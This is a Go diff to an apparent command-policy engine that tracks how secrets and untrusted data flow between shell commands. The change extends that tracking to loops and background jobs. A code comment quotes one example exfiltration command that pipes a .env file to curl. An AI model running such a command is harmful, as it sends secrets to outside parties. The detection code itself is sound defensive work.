@@ -62,7 +62,8 @@ func walk(nodes []engine.Node, visit func(*engine.Node)) {
 // Within is what counts for a line: what the session has seen, and what the
 // line's own commands show to those behind them: cat .env | curl -d @- x. A
 // secret that a command reads counts for the command itself, which can send
-// it away; what it brings from outside counts for later ones.
+// it away; what it brings from outside counts for later ones. In a loop and in
+// the background every command may be a later one.
 func (r Rules) Within(v *engine.Verdict, t engine.Taint) engine.Taint {
 	own, counts := engine.Taint{}, t
 	walk(v.Tree, func(n *engine.Node) {
@@ -77,7 +78,42 @@ func (r Rules) Within(v *engine.Verdict, t engine.Taint) engine.Taint {
 			own = join(own, s.Corruption, 0, r.From)
 		}
 	})
+	return both(counts, r.again(v.Tree, engine.Taint{}))
+}
+
+// again is what counts for commands that may run after those behind them: what
+// all others of their text show, and what is outside of it.
+func (r Rules) again(nodes []engine.Node, outside engine.Taint) (counts engine.Taint) {
+	behind := make([]engine.Taint, len(nodes)+1)
+	for i := len(nodes) - 1; i >= 0; i-- {
+		behind[i] = both(behind[i+1], r.shows(nodes[i:i+1]))
+	}
+	before := outside
+	for i := range nodes {
+		n, others := &nodes[i], outside
+		if n.Again() {
+			if others = both(before, behind[i+1]); n.Reach > policy.ReachLocal {
+				counts = both(counts, others)
+			}
+		}
+		counts = both(counts, r.again(n.Children, others))
+		before = both(before, r.shows(nodes[i:i+1]))
+	}
 	return counts
+}
+
+// shows is what commands show, all of them.
+func (r Rules) shows(nodes []engine.Node) (t engine.Taint) {
+	walk(nodes, func(n *engine.Node) {
+		for _, s := range n.Sights {
+			t = join(t, s.Corruption, s.Secret, r.From)
+		}
+	})
+	return t
+}
+
+func both(a, b engine.Taint) engine.Taint {
+	return engine.Taint{Corruption: max(a.Corruption, b.Corruption), Secret: max(a.Secret, b.Secret), Damaged: a.Damaged || b.Damaged}
 }
 
 // After is what counts once what the events tell was seen.
